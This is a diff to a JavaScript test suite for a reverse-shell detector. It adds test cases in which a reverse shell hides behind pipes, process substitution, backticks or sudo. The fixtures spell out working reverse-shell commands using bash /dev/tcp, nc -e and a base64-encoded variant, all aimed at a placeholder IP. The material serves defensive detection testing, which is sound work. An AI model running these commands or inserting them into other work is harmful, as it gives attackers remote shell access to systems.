@@ -27,6 +27,18 @@ const CERTAIN = [
   'sh -c echo YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuOS80NDQ0IDA+JjE= | base64 -d | bash',
   'grep x $(bash -i >& /dev/tcp/203.0.113.9/4444 0>&1)',
 ];
+const HIDDEN = [
+  'bash -c ls|bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
+  'bash -c ls\t|\tbash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
+  'bash -c ls > >(bash -i >& /dev/tcp/203.0.113.9/4444 0>&1)',
+  'bash -c ls "`bash -i >& /dev/tcp/203.0.113.9/4444 0>&1`"',
+  'bash -c grep x /etc/hosts|bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
+  'bash -c grep x|bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
+  'sh -c stat f|nc 203.0.113.9 4444 -e /bin/sh',
+  'sh -c ps|nc 203.0.113.9 4444 -e sh',
+  'sudo -u root bash -c "ls|bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"',
+  'sh -c bash -c "ls; bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"',
+];
 const UNCERTAIN = ["bash -c '</dev/tcp/db/5432'", 'python3 -c \'import pty; pty.spawn("/bin/bash")\''];
 const NONE = [
   'bash',
@@ -46,11 +58,18 @@ const NONE = [
   'openssl s_client -connect db:5432',
   'perl -e print "hello"',
   'php artisan queue:restart',
+  'sh -c grep -rE "nc -e /bin/sh|bash -i" /',
+  'grep -rE bash -i >& /dev/tcp/|nc -e /bin/sh /var/log',
+  'sh -c ps aux|grep "nc -e /bin/sh"',
+  'sh -c echo /dev/tcp',
 ];
 
 describe('a reverse shell in a command line', () => {
   for (const line of CERTAIN) {
     it(`is certain: ${line.slice(0, 70)}`, () => assert.equal(reverseShellIn(line)?.certain, true));
+  }
+  for (const line of HIDDEN) {
+    it(`is certain behind what only looks: ${line}`, () => assert.equal(reverseShellIn(line)?.certain, true));
   }
   for (const line of UNCERTAIN) {
     it(`is possible: ${line}`, () => assert.equal(reverseShellIn(line)?.certain, false));
